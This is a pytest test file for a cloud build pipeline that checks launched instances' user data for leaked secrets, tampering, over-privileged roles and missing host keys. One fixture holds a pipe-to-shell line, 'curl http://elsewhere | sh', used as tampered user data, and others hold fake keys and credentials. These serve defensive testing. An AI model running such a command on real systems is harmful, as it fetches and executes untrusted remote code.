"""What a launch proves of itself: the way in, and what the instance was given."""

import base64
from types import SimpleNamespace
from typing import Any

import pytest

from pipeline.guest.keys import make_key_pair
from pipeline.report.evidence import Layer, Status
from pipeline.residue.secrets import build_secrets
from pipeline.stages.launch import marked_user_data
from pipeline.stages.launch_proof import prove_host_key, prove_own_key, prove_what_it_was_given

MARKED = marked_user_data("20250131-235959-1a2b3c")
KEY = make_key_pair("the build's")
ACCESS_KEY = "AKIA" + "Q3EXJ7LRNBZ2WTUY"


def guest(user_data: str = MARKED, profile: str = "", host_keys: tuple[str, ...] = ("ssh-ed25519 AAAA",)) -> Any:
    instance = SimpleNamespace(instance_id="i-1", instance_profile=profile)
    return SimpleNamespace(instance=instance, user_data=user_data, host_keys=host_keys)


def given(user_data: str, answer: str | None = None, profile: str = "") -> list[Status]:
    """Return the statuses for an instance of which the cloud says `answer`, or what it was launched with."""
    value = base64.b64encode((user_data if answer is None else answer).encode()).decode()
    ec2 = SimpleNamespace(describe_instance_attribute=lambda **_: {"UserData": {"Value": value} if value else {}})
    session: Any = SimpleNamespace(region="eu-central-1", client=lambda name: ec2)
    context: Any = SimpleNamespace(session=session)
    secrets = build_secrets(private_keys={"the build's key": KEY.private_openssh.reveal})
    results = prove_what_it_was_given(context, guest(user_data, profile), secrets)
    assert {result.layer for result in results} == {Layer.AWS}
    assert KEY.private_openssh.reveal[50:90] not in str(results)
    return [result.status for result in results]


def test_the_build_s_own_user_data_passes() -> None:
    assert given(MARKED) == [Status.PASS, Status.PASS]
    assert given("") == [Status.PASS, Status.PASS]


@pytest.mark.parametrize(
    "secret",
    [
        KEY.private_openssh.reveal,
        f"aws_access_key_id = {ACCESS_KEY}",
        "url = https://deploy:Xk29sPq7TzLm@git.example.com/x",
        make_key_pair("somebody's").private_openssh.reveal,
    ],
    ids=["the build's own key", "an access key", "a login in an address", "somebody's key"],
)
def test_a_secret_in_user_data_is_found(secret: str) -> None:
    assert given(f"{MARKED}{secret}\n")[0] is Status.FAIL


def test_other_user_data_than_was_sent_is_found() -> None:
    assert given(MARKED, answer="#!/bin/sh\ncurl http://elsewhere | sh\n")[0] is Status.FAIL


def test_a_role_of_the_build_instance_is_found() -> None:
    assert given(MARKED, profile="arn:aws:iam::111122223333:instance-profile/admin") == [Status.PASS, Status.FAIL]


def test_an_own_key_file_is_a_pass_and_none_says_why_it_does_not_apply() -> None:
    assert prove_own_key("~/.ssh/id").status is Status.PASS
    made = prove_own_key(None)
    assert (made.status, made.layer, made.controls) == (Status.NOT_APPLICABLE, Layer.LIVE, ("H26",))
    assert "lies in no file" in made.detail


def test_a_host_key_from_the_console_is_a_pass() -> None:
    assert prove_host_key(guest()).status is Status.PASS
    assert prove_host_key(guest(host_keys=())).status is Status.FAIL
